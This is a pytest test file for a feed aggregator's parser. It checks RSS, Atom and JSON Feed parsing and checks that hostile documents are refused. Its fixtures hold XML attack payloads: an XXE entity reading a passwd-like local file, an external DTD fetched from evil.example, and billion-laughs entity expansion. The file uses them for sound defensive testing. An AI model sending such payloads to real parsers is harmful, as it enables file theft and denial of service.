"""parse: every format, and hostile documents."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from aggregator.errors import FeedError, FeedErrorKind
from aggregator.parse.feed import parse_feed
from tests.feeds import atom, rss

URL = "https://example.com/feed"


def parse(body: bytes, content_type: str = "application/xml"):
    return parse_feed(body, {"content-type": content_type})


def test_rss2():
    feed = parse(
        rss(
            [
                {
                    "title": "A &amp; B",
                    "link": "https://e.example/1",
                    "guid": "g1",
                    "pubDate": "Sat, 28 Nov 2026 09:00:00 +0100",
                    "description": "<b>x</b>",
                    "category": "ml",
                }
            ]
        )
    )
    assert feed.version == "rss20"
    (entry,) = feed.entries
    assert (entry.guid, entry.link, entry.tags) == ("g1", "https://e.example/1", ("ml",))
    assert entry.published == datetime(2026, 11, 28, 8, 0, tzinfo=UTC)
    assert entry.updated is None  # no fallback from updated to published
    assert entry.summary_html == "<b>x</b>"


def test_atom():
    feed = parse(
        atom(
            [
                {
                    "title": "T",
                    "id": "urn:1",
                    "link": "https://e.example/1",
                    "updated": "2026-11-28T09:00:00+02:00",
                    "summary": "<i>s</i>",
                }
            ]
        )
    )
    assert feed.version == "atom10"
    (entry,) = feed.entries
    assert entry.updated == datetime(2026, 11, 28, 7, 0, tzinfo=UTC)
    assert entry.guid == "urn:1"


def test_rss1():
    body = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://e.example/"><title>R</title><link>https://e.example/</link>
<description>d</description></channel>
<item rdf:about="https://e.example/1"><title>One</title><link>https://e.example/1</link>
<dc:date>2026-11-28T09:00:00Z</dc:date></item></rdf:RDF>"""
    feed = parse(body)
    assert feed.version == "rss10"
    assert feed.entries[0].title == "One"
    entry = feed.entries[0]
    assert (entry.published or entry.updated) == datetime(2026, 11, 28, 9, 0, tzinfo=UTC)


@pytest.mark.parametrize("version", ["1", "1.1"])
def test_json_feed(version):
    doc = {
        "version": f"https://jsonfeed.org/version/{version}",
        "title": "J",
        "items": [
            {
                "id": 7,
                "url": "https://e.example/7",
                "title": "Seven & more",
                "content_text": "plain <text>",
                "date_published": "2026-11-28T09:00:00Z",
                "tags": ["a", 3],
            },
            "not an item",
        ],
    }
    feed = parse(json.dumps(doc).encode(), "application/feed+json")
    assert feed.version == "json" + version.replace(".", "")
    (entry,) = feed.entries
    assert entry.guid == "7"
    assert entry.title == "Seven &amp; more"
    assert entry.content_html == "plain &lt;text&gt;"
    assert entry.tags == ("a",)
    assert entry.published == datetime(2026, 11, 28, 9, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (
            b"<!DOCTYPE html><html><head><title>Blog</title></head><body>hi</body></html>",
            FeedErrorKind.NOT_A_FEED,
        ),
        (b"just some text", FeedErrorKind.NOT_A_FEED),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": 3}', FeedErrorKind.PARSE),
        (b'{"hello": "world"}', FeedErrorKind.NOT_A_FEED),
        (b"{not json", FeedErrorKind.PARSE),
        (b"[" * 100_000, FeedErrorKind.NOT_A_FEED),
        (b"{" * 100_000, FeedErrorKind.PARSE),
        (b"<rss version='2.0'><channel><title>x</ti", None),  # recovered or a parse error
    ],
)
def test_what_is_not_a_feed_is_classified(body, kind):
    if kind is None:
        try:
            parse(body)
        except FeedError as error:
            assert error.kind in (FeedErrorKind.PARSE, FeedErrorKind.NOT_A_FEED)
        return
    with pytest.raises(FeedError) as info:
        parse(body)
    assert info.value.kind is kind


def test_a_body_that_names_a_file_is_not_opened(tmp_path):
    secret = tmp_path / "secret.xml"
    secret.write_bytes(rss([{"title": "SECRET", "guid": "s"}]))
    with pytest.raises(FeedError):
        parse(str(secret).encode())


def test_external_entities_are_refused(tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0 SECRET")
    body = f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title><guid>1</guid>
<description>&xxe;</description></item></channel></rss>""".encode()
    with pytest.raises(FeedError) as info:
        parse(body)
    assert info.value.kind is FeedErrorKind.XML_BOMB


LOL = ['<!ENTITY lol0 "lol">'] + [
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
]


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE rss [" + "".join(LOL) + "]>",
        "<!DOCTYPE rss [\n" + "\n".join(LOL) + "\n]>",  # one per line, as feedparser likes
        '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.example/x.ent"> %ext;]>',
        "<!DOCTYPE rss [<!entity lol1 '&lol0;&lol0;'>]>",
    ],
)
def test_entity_declarations_are_refused_as_a_bomb(doctype):
    body = (
        f"<?xml version='1.0'?>{doctype}"
        "<rss version='2.0'><channel><title>&lol9;</title><item><title>&lol9;</title>"
        "<guid>1</guid></item></channel></rss>"
    ).encode()
    with pytest.raises(FeedError) as info:
        parse(body)
    assert info.value.kind is FeedErrorKind.XML_BOMB
    assert str(info.value).startswith("xml_bomb: a DTD declares an entity")
    with pytest.raises(FeedError):
        parse(body.decode().encode("utf-16"))


def test_plain_text_entities_and_their_look_alikes_are_read():
    body = (
        b"<?xml version='1.0'?>\n<!DOCTYPE rss [\n<!ENTITY id \"tag:example.com,\">\n]>"
        b"<rss version='2.0'><channel><title>t</title><item>"
        b"<title><![CDATA[<!ENTITY x SYSTEM 'y'> is how XXE starts]]></title>"
        b"<guid isPermaLink='false'>&id;1</guid></item></channel></rss>"
    )
    (entry,) = parse(body).entries
    assert entry.guid == "tag:example.com,1"
    assert entry.title is not None and "XXE" in entry.title


def test_relative_urls_in_content_follow_xml_base():
    """Issue 16: the body a reader sees has its links resolved against the entry's
    xml:base (RFC 4287 section 2), not against the address the feed was fetched from."""
    doc = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://site.example/blog/">
<title>t</title><id>urn:t</id><updated>2026-11-28T10:00:00Z</updated>
<entry><title>e</title><id>urn:e</id><updated>2026-11-28T10:00:00Z</updated>
<link href="posts/1"/>
<summary type="html">&lt;a href="notes"&gt;notes&lt;/a&gt;</summary>
<content type="html">&lt;p&gt;&lt;a href="/setup"&gt;setup&lt;/a&gt;
&lt;img src="img/a.png"&gt;&lt;/p&gt;</content>
</entry></feed>"""
    (entry,) = parse(doc, "application/atom+xml").entries
    assert entry.link == "https://site.example/blog/posts/1"
    assert 'href="https://site.example/setup"' in (entry.content_html or "")
    assert 'src="https://site.example/blog/img/a.png"' in (entry.content_html or "")
    assert 'href="https://site.example/blog/notes"' in (entry.summary_html or "")
